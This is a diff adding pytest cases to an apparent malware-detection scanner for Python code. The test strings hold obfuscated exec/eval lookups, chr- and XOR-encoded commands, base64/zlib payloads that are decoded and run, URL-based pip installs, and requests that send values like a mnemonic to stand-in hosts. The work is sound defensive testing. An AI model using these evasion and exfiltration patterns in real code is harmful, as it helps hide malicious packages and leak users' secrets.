@@ -424,3 +424,109 @@ def test_a_computed_builtin_that_is_called_is_evaluation() -> None:
     assert seen("import builtins\ngetattr(builtins, name)(text)")["code.evaluate"].hidden
     assert "code.evaluate" not in seen("import builtins\nfound = getattr(builtins, name)")
     assert "decode.characters" in seen("text = ''.join([chr((b - (key % 256)) % 256) for b in data])")
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        '__builtins__.get("exec")(text)\n',
+        'globals()["__builtins__"].get("ex" + "ec")(text)\n',
+        'join = "".join\n'
+        "look = globals()[join([chr(x) for x in [95, 95, 98, 117, 105, 108, 116, 105, 110, 115, 95, 95]])]\n"
+        "run = look.get(join([chr(x) for x in [101, 118, 97, 108]]))\nrun(text)\n",
+        "__builtins__.get(name)(text)\n",
+        "class A:\n    def __init__(self):\n        self.a, self.b = 1, eval\n        self.b(text)\n",
+        "class A:\n    def __init__(self):\n        self.go = exec\n        self.go(text)\n",
+    ],
+)
+def test_builtins_behind_lookups_and_attributes(source: str) -> None:
+    assert "code.evaluate" in seen(source)
+
+
+def test_styled_names_are_the_names_they_spell() -> None:
+    styled = "".join(chr(0x1D5EE + ord(letter) - 97) for letter in "requests")
+    wide = "".join(chr(0xFF41 + ord(letter) - 97) for letter in "subprocess")
+    found = seen(f'import requests, subprocess\n\n{styled}.get("https://a.example.invalid/x")\n{wide}.call(["x"])\n')
+    assert found["net.fetch"].line == 3
+    assert found["spawn.process"].line == 4
+    assert "net.fetch" not in seen(f'print("{styled} - a name for nothing")\n')
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        "from pip._vendor import requests\nrequests.post(url, json=data)\n",
+        "from other.vendored.requests import Session\ns = Session()\ns.request(method='POST', url=url, json=data)\n",
+    ],
+)
+def test_vendored_clients_are_the_clients(source: str) -> None:
+    assert "net.send" in seen(source)
+
+
+def test_a_text_that_grows_line_by_line_is_folded() -> None:
+    packed = base64.b64encode(
+        zlib.compress(b'import subprocess\nsubprocess.run(["whoami"])\nprint("inert")\n')
+    ).decode()
+    lines = "".join(f"Z += '{packed[i : i + 16]}'\n" for i in range(0, len(packed), 16))
+    found = seen(
+        f'import base64, zlib\nZ = ""\n{lines}Z = base64.b64decode(Z)\nZ = zlib.decompress(Z)\nif Z:\n    exec(Z)\n'
+    )
+    assert found["spawn.process"].hidden
+    assert found["spawn.process"].top
+
+
+def _looped(addition: str) -> str:
+    key, code = "735691", 'import os\nos.system("whoami")\n# inert\n'
+    hidden = "".join(chr(ord(a) ^ ord(key[i % len(key)])) for i, a in enumerate(code))
+    return (
+        f"A = {hidden!r}\nB = {key!r}\nn = len(A)\no = ''\nfor i in range(n):\n    a = A[i]\n    b = B[i % len(B)]\n"
+        f"{addition}exec(o)\n"
+    )
+
+
+def test_a_loop_that_decodes_is_computed() -> None:
+    found = seen(_looped("    o += chr(ord(a) ^ ord(b))\n"))
+    assert found["spawn.shell"].hidden
+    # What is not straight is left alone: the value may be another.
+    assert "spawn.shell" not in seen(_looped("    if a != b:\n        o += chr(ord(a) ^ ord(b))\n"))
+
+
+def test_a_conditional_addition_changes_nothing() -> None:
+    found = seen('import os\n\ncommand = "who"\nif os.path.exists("x"):\n    command += "ami"\nos.system(command)\n')
+    assert "host.identity" not in found
+    assert "host.identity" in seen('import os\n\ncommand = "who"\ncommand += "ami"\nos.system(command)\n')
+
+
+def test_packages_installed_from_an_address() -> None:
+    assert "install.dependency" in seen('import os\nos.system("pip install https://a.example.invalid/b.tar.gz")\n')
+    assert "install.dependency" in seen(
+        'import subprocess, sys\nsubprocess.run([sys.executable, "-m", "pip", "install", "git+https://a.example.invalid/b"])\n'
+    )
+    assert "install.dependency" not in seen('import os\nos.system("pip install requests")\n')
+
+
+@pytest.mark.parametrize(
+    ("source", "expected"),
+    [
+        ("requests.get(base64.b64decode(K) + key)", True),
+        ('requests.get("http://192.0.2.1:1338/?h=" + answer)', True),
+        ('requests.get(f"https://a.example.invalid/{mnemonic}")', True),
+        ('requests.get("https://a.example.invalid/?page=" + page)', False),
+        ("requests.get(base64.b64decode(K))", False),
+    ],
+)
+def test_a_get_that_carries_something_sends(source: str, expected: bool) -> None:
+    assert ("net.send" in seen(f"import base64\nimport requests\n\n{source}\n")) is expected
+
+
+@pytest.mark.parametrize(
+    ("source", "behaviour"),
+    [
+        ("import boto3\ns = boto3.Session()\ns.get_credentials()\n", "cred.cloud"),
+        ("from flask import Flask\napp = Flask(__name__)\napp.run()\n", "net.listen"),
+        ("import telebot\nbot = telebot.TeleBot(t)\nbot.infinity_polling()\n", "net.fetch"),
+        ("import telebot\nbot = telebot.TeleBot(t)\nbot.reply_to(m, text)\n", "net.send"),
+    ],
+)
+def test_frameworks(source: str, behaviour: str) -> None:
+    assert behaviour in seen(source)
